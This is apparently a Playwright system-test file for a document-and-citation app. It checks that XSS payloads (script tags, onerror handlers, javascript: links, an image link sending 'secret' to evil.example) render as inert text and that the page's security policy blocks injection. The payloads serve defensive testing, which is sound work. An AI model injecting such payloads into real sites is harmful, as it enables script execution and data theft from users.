"""Text of a document or a model stays text: nothing in it runs, loads or links."""

from __future__ import annotations

import pytest
from playwright.sync_api import Error, Page, expect

from footnote.errors import Unavailable
from tests.system.page.questions import ask, marks
from tests.system.page.standin import StandIn, citation, document, response

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example/></iframe>",
    "<a href=https://evil.example/>here</a>",
    "![pixel](https://evil.example/p.png?q=secret)",
    "[press](javascript:alert(1))",
    "https://evil.example/",
    "**<b onclick=alert(1)>**",
    "`<script>alert(1)</script>`",
    "</textarea><script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_stays_text_wherever_it_comes_from(page: Page, answer: StandIn, attack: str) -> None:
    hostile = document(
        f"{attack}\n\nA text with {attack} in it.",
        title=attack,
        key=attack,
        outline=[attack],
        passages=[
            {
                "ordinal": 0,
                "page": None,
                "headings": [attack],
                "start": 0,
                "end": len(attack),
                "text": attack,
            },
        ],
    )
    answer.hold(hostile)
    answer.hold(document("", name="d2", title=attack, state="failed", reason=attack))
    answer.answer(response(f"{attack} [1]\n\n- {attack}\n\n# {attack}", [citation(hostile, attack)]))
    ask(page, attack)
    expect(page.locator(".colophon")).to_be_visible()
    marks(page).first.hover()
    expect(page.locator("#preview q")).to_have_text(attack)
    marks(page).first.click()
    expect(page.locator("#panel mark")).to_have_text(attack)
    page.get_by_role("button", name="Documents").click()
    expect(page.locator("#panel .reason")).to_have_text(attack)
    built = page.evaluate(
        "[...document.querySelectorAll('.turn :not(.actions *), #preview *, #panel-body *')]"
        ".map((node) => node.localName)"
    )
    assert set(built).isdisjoint({"script", "img", "svg", "iframe", "b", "textarea", "object", "style"})
    assert page.locator("a[href*='evil'], a[href^='javascript']").count() == 0


def test_an_error_stays_text(page: Page, answer: StandIn) -> None:
    answer.refusal = Unavailable("<img src=x onerror=alert(1)>")
    ask(page)
    expect(page.get_by_role("alert")).to_contain_text("<img src=x onerror=alert(1)>")


def test_a_footnote_without_a_citation_is_no_link(page: Page, answer: StandIn) -> None:
    answer.answer(response("As everybody knows [7]."))
    ask(page)
    expect(page.locator(".colophon")).to_be_visible()
    expect(page.locator(".answer")).to_have_text("As everybody knows.[7]")
    assert page.locator(".answer a").count() == 0


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<b>'",
        "document.head.append(Object.assign(document.createElement('script'), {text: 'alert(1)'}))",
        "document.write('<b>')",
    ],
)
def test_the_policy_of_the_page_refuses_what_its_code_never_does(page: Page, attempt: str) -> None:
    with pytest.raises(Error, match=r"TrustedHTML|TrustedScript|Content Security Policy"):
        page.evaluate(f"() => {{ {attempt} }}")


def test_nothing_can_be_sent_elsewhere(page: Page) -> None:
    with pytest.raises(Error, match="Failed to fetch"):
        page.evaluate("() => fetch('http://localhost:9/')")
